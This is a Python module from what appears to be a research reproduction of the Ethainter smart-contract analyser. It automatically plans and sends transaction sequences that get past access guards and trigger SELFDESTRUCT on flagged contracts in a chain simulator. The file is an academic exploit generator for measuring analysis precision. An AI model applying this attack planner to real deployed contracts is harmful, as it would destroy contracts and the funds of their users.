"""Ethainter-Kill: exploit generation guided by the analysis artifacts.

Strategy (mirroring §6.1, where Ethainter "pinpoints vulnerabilities with
enough precision to actually exploit them end-to-end"):

1. Take the flagged ``SELFDESTRUCT`` statements from an
   :class:`~repro.core.analysis.AnalysisResult`.
2. Map each to the public selector(s) whose dispatcher entry reaches it.
   If none exists, the vulnerable statement is private — the paper's
   "unable to find a public entry point" failure class.
3. Recursively *plan* the composite escalation: for every guard protecting
   the target, find an attacker-reachable store that compromises it (a
   sender-keyed or attacker-keyed mapping write for ``DS_LOOKUP`` guards, a
   tainted write to the compared slot for ``EQ_SENDER`` guards), plan that
   store's own guards first, and prepend the enabling calls.
4. Execute the transaction sequence from a fresh attacker account, trying a
   small set of argument heuristics (the attacker's address, 0, 1) for
   calldata words the analysis did not pin down.
5. Verify success by scanning the VM trace of the final transaction for an
   executed ``SELFDESTRUCT`` at the victim's address.

Failures are expected and recorded — automated exploit generation is
incomplete by nature (the paper destroys 16.7% of flagged contracts and
treats that as a lower bound on precision).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.chain import Blockchain
from repro.core.analysis import AnalysisResult, EthainterAnalysis
from repro.core.guards import DS_LOOKUP, EQ_SENDER, Guard
from repro.core.vulnerabilities import ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT
from repro.decompiler.functions import blocks_reachable_from, find_public_functions
from repro.minisol.abi import encode_args

MAX_PLAN_DEPTH = 6
MAX_ATTEMPTS = 24


@dataclass
class PlannedCall:
    """One transaction in an attack plan."""

    selector: int
    arg_count: int
    # Argument indexes that must carry the attacker's address (tainted args
    # traced back to specific calldata offsets); others use heuristics.
    address_args: Set[int] = field(default_factory=set)
    purpose: str = ""


@dataclass
class KillOutcome:
    """Result of attacking one contract."""

    address: int
    attempted: bool
    destroyed: bool
    transactions_sent: int = 0
    plan: List[PlannedCall] = field(default_factory=list)
    reason: str = ""


@dataclass
class KillReport:
    """Aggregate over a batch of contracts."""

    outcomes: List[KillOutcome] = field(default_factory=list)

    @property
    def flagged(self) -> int:
        return len(self.outcomes)

    @property
    def attempted(self) -> int:
        return sum(1 for outcome in self.outcomes if outcome.attempted)

    @property
    def destroyed(self) -> int:
        return sum(1 for outcome in self.outcomes if outcome.destroyed)

    @property
    def kill_rate(self) -> float:
        return self.destroyed / self.flagged if self.flagged else 0.0


class EthainterKill:
    """Drives exploits against contracts deployed on a chain simulator.

    ``solver_assisted=True`` enables a hybrid mode beyond the paper's tool:
    when the plan-driven attack fails (e.g. a non-sender magic-value guard
    the analysis rightly ignores but the argument heuristics cannot satisfy),
    the symbolic baseline's constraint solver is asked for concrete exploit
    calldata and the solved transaction is replayed.  This is the
    static+symbolic combination the paper's teEther comparison hints at.
    """

    def __init__(
        self,
        chain: Blockchain,
        attacker: int = 0xA77AC7E2,
        solver_assisted: bool = False,
    ):
        self.chain = chain
        self.attacker = attacker
        self.solver_assisted = solver_assisted
        chain.fund(attacker, 10**21)

    # ------------------------------------------------------------ planning

    def _selector_map(self, result: AnalysisResult) -> Dict[str, Set[int]]:
        """Block id -> selectors whose public entry reaches the block."""
        program = result.program
        ownership: Dict[str, Set[int]] = {}
        for public in find_public_functions(program):
            for block_id in blocks_reachable_from(program, public.entry_block):
                ownership.setdefault(block_id, set()).add(public.selector)
        return ownership

    def _arg_count(self, result: AnalysisResult, selector: int) -> int:
        """Max ABI argument index observed via CALLDATALOAD in the function."""
        program = result.program
        entry = None
        for public in find_public_functions(program):
            if public.selector == selector:
                entry = public.entry_block
        if entry is None:
            return 0
        blocks = blocks_reachable_from(program, entry)
        max_index = -1
        for variable, stmt in result.facts.calldata_defs:
            if stmt.block not in blocks:
                continue
            offset_vars = stmt.uses[:1]
            for offset_var in offset_vars:
                offset = result.facts.const.get(offset_var)
                if offset is not None and offset >= 4 and (offset - 4) % 32 == 0:
                    max_index = max(max_index, (offset - 4) // 32)
        return max_index + 1

    def _address_args(
        self, result: AnalysisResult, selector: int, target_vars: Sequence[str]
    ) -> Set[int]:
        """Argument indexes whose calldata feeds ``target_vars``' taint."""
        indexes: Set[int] = set()
        witness_by_var = result.taint.witness
        stmt_by_id = {s.ident: s for s in result.program.statements()}
        for variable in target_vars:
            source_id = witness_by_var.get(variable)
            if source_id is None:
                continue
            stmt = stmt_by_id.get(source_id)
            if stmt is None or not stmt.uses:
                continue
            offset = result.facts.const.get(stmt.uses[0])
            if offset is not None and offset >= 4 and (offset - 4) % 32 == 0:
                indexes.add((offset - 4) // 32)
        return indexes

    def _enabling_stores(
        self, result: AnalysisResult, guard: Guard
    ) -> List[Tuple[str, List[str]]]:
        """Statements whose execution compromises ``guard``.

        Returns (statement id, variables-to-force-to-attacker) pairs.
        """
        facts, storage = result.facts, result.storage
        out: List[Tuple[str, List[str]]] = []
        if guard.kind == DS_LOOKUP and guard.mapping_slot is not None:
            for store in facts.storage_stores:
                for source in storage.copy_sources.get(
                    store.address_var, {store.address_var}
                ):
                    access = storage.mapping_accesses.get(source)
                    if access is None or access.base_slot != guard.mapping_slot:
                        continue
                    if storage.is_sender_derived(access.key_var):
                        out.append((store.statement.ident, []))
                    else:
                        out.append((store.statement.ident, [access.key_var]))
        elif guard.kind == EQ_SENDER:
            for store in facts.storage_stores:
                if store.const_slot is not None and store.const_slot in guard.compared_slots:
                    out.append((store.statement.ident, [store.value_var]))
        return out

    def _plan_statement(
        self,
        result: AnalysisResult,
        selector_map: Dict[str, Set[int]],
        statement_id: str,
        block_id: str,
        force_vars: Sequence[str],
        visited: Set[str],
        depth: int,
    ) -> Optional[List[PlannedCall]]:
        """Plan the calls needed to execute ``statement_id`` as the attacker."""
        if depth > MAX_PLAN_DEPTH or statement_id in visited:
            return None
        visited = visited | {statement_id}

        selectors = selector_map.get(block_id)
        if not selectors:
            return None  # private statement: no public entry point
        selector = min(selectors)

        plan: List[PlannedCall] = []
        for guard in result.guards.guards_of(statement_id):
            if guard.ident not in result.taint.compromised_guards:
                return None  # genuinely guarded: not exploitable this way
            satisfied = False
            for enabler_id, enabler_vars in self._enabling_stores(result, guard):
                enabler_stmt = next(
                    (s for s in result.program.statements() if s.ident == enabler_id),
                    None,
                )
                if enabler_stmt is None:
                    continue
                sub_plan = self._plan_statement(
                    result,
                    selector_map,
                    enabler_id,
                    enabler_stmt.block,
                    enabler_vars,
                    visited,
                    depth + 1,
                )
                if sub_plan is not None:
                    plan.extend(sub_plan)
                    satisfied = True
                    break
            if not satisfied:
                return None
        arg_count = self._arg_count(result, selector)
        plan.append(
            PlannedCall(
                selector=selector,
                arg_count=arg_count,
                address_args=self._address_args(result, selector, force_vars),
                purpose="reach %s" % statement_id,
            )
        )
        return plan

    # ----------------------------------------------------------- execution

    def _execute_plan(self, address: int, plan: List[PlannedCall]) -> Tuple[bool, int]:
        """Run ``plan``; returns (destroyed, transactions sent)."""
        sent = 0
        attempts = 0
        # Argument heuristics for non-pinned words, tried in order.
        for filler in (self.attacker, 1, 0):
            if attempts >= MAX_ATTEMPTS:
                break
            attempts += 1
            destroyed = False
            for call in plan:
                args = [
                    self.attacker if index in call.address_args else filler
                    for index in range(call.arg_count)
                ]
                calldata = call.selector.to_bytes(4, "big") + encode_args(args)
                receipt = self.chain.transact(self.attacker, address, calldata)
                sent += 1
                if receipt.result is not None and any(
                    entry.op == "SELFDESTRUCT" and entry.address == address
                    for entry in receipt.result.trace
                ):
                    destroyed = True
            if destroyed and self.chain.state.is_destroyed(address):
                return True, sent
            if self.chain.state.is_destroyed(address):
                return True, sent
        return False, sent

    def _solver_fallback(self, address: int) -> Tuple[bool, int]:
        """Ask the symbolic engine for exploit calldata and replay it."""
        from repro.baselines.teether import TeEtherAnalysis

        code = self.chain.state.get_code(address)
        storage = dict(self.chain.state.account(address).storage)
        findings = TeEtherAnalysis(attacker=self.attacker).analyze(code, storage)
        sent = 0
        for finding in findings.findings:
            if not finding.exploit_calldata_words:
                continue
            size = max(finding.exploit_calldata_words) + 32
            calldata = bytearray(size)
            for offset, word in finding.exploit_calldata_words.items():
                calldata[offset : offset + 32] = word.to_bytes(32, "big")
            self.chain.transact(self.attacker, address, bytes(calldata))
            sent += 1
            if self.chain.state.is_destroyed(address):
                return True, sent
        return False, sent

    # ---------------------------------------------------------------- API

    def attack(self, address: int, result: AnalysisResult) -> KillOutcome:
        """Attempt to destroy the contract at ``address``."""
        flagged = [
            warning
            for warning in result.warnings
            if warning.kind in (ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT)
        ]
        if not flagged or result.program is None or result.taint is None:
            return KillOutcome(
                address=address,
                attempted=False,
                destroyed=False,
                reason="not flagged for selfdestruct",
            )

        selector_map = self._selector_map(result)
        stmt_by_id = {s.ident: s for s in result.program.statements()}

        for warning in flagged:
            stmt = stmt_by_id.get(warning.statement)
            if stmt is None:
                continue
            plan = self._plan_statement(
                result,
                selector_map,
                stmt.ident,
                stmt.block,
                [],
                set(),
                0,
            )
            if plan is None:
                continue
            destroyed, sent = self._execute_plan(address, plan)
            if destroyed:
                return KillOutcome(
                    address=address,
                    attempted=True,
                    destroyed=True,
                    transactions_sent=sent,
                    plan=plan,
                )
            if self.solver_assisted:
                solved, extra = self._solver_fallback(address)
                sent += extra
                if solved:
                    return KillOutcome(
                        address=address,
                        attempted=True,
                        destroyed=True,
                        transactions_sent=sent,
                        plan=plan,
                        reason="solver-assisted",
                    )
            return KillOutcome(
                address=address,
                attempted=True,
                destroyed=False,
                transactions_sent=sent,
                plan=plan,
                reason="plan executed but contract survived",
            )
        return KillOutcome(
            address=address,
            attempted=False,
            destroyed=False,
            reason="no public entry point reaches the flagged statement",
        )

    def attack_many(
        self, targets: Sequence[Tuple[int, AnalysisResult]]
    ) -> KillReport:
        """Attack every (address, analysis result) pair; aggregate."""
        report = KillReport()
        for address, result in targets:
            report.outcomes.append(self.attack(address, result))
        return report

    def attack_bytecodes(
        self,
        targets: Sequence[Tuple[int, bytes]],
        config=None,
    ) -> KillReport:
        """Analyze and attack every (address, runtime bytecode) pair.

        Runs the staged analysis itself, once per distinct runtime, so
        re-deployments of identical bytecode (common on-chain, common in
        kill sweeps) are analyzed once.
        """
        analyzer = EthainterAnalysis(config)
        results: Dict[bytes, AnalysisResult] = {}
        for _address, runtime in targets:
            if runtime not in results:
                results[runtime] = analyzer.analyze(runtime)
        return self.attack_many(
            [(address, results[runtime]) for address, runtime in targets]
        )
